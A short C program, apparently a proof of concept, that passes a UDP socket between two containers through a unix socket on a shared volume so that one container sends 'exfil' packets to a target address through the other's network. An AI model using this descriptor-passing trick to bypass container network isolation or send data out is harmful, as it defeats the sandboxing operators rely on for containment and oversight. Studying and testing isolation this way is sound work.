/* Hands a socket of this container's network to another container, over a unix socket in a volume that both have.
   collude give PATH TARGET: makes a UDP socket and hands it over, then sleeps.
   collude take PATH TARGET: waits for the socket and sends through it for ever. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

static union {
  char room[CMSG_SPACE(sizeof(int))];
  struct cmsghdr align;
} box;

static struct msghdr letter(struct iovec *v, char *byte) {
  *v = (struct iovec){byte, 1};
  return (struct msghdr){.msg_iov = v, .msg_iovlen = 1, .msg_control = box.room, .msg_controllen = sizeof box.room};
}

int main(int argc, char **argv) {
  struct sockaddr_un place = {.sun_family = AF_UNIX};
  struct sockaddr_in target = {.sin_family = AF_INET, .sin_port = htons(9999)};
  struct iovec v;
  char byte = 'x';
  struct msghdr m = letter(&v, &byte);
  int channel = socket(AF_UNIX, SOCK_STREAM, 0), handed = -1;
  strcpy(place.sun_path, argv[2]);
  inet_pton(AF_INET, argv[3], &target.sin_addr);
  if (!strcmp(argv[1], "give")) {
    handed = socket(AF_INET, SOCK_DGRAM, 0);
    while (connect(channel, (void *)&place, sizeof place)) usleep(50000);
    struct cmsghdr *h = CMSG_FIRSTHDR(&m);
    h->cmsg_level = SOL_SOCKET, h->cmsg_type = SCM_RIGHTS, h->cmsg_len = CMSG_LEN(sizeof(int));
    memcpy(CMSG_DATA(h), &handed, sizeof(int));
    sendmsg(channel, &m, 0);
    close(handed);
    for (;;) pause();
  }
  bind(channel, (void *)&place, sizeof place);
  listen(channel, 1);
  recvmsg(accept(channel, 0, 0), &m, 0);
  memcpy(&handed, CMSG_DATA(CMSG_FIRSTHDR(&m)), sizeof(int));
  for (;;) {
    sendto(handed, "exfil", 5, 0, (void *)&target, sizeof target);
    usleep(50000);
  }
}
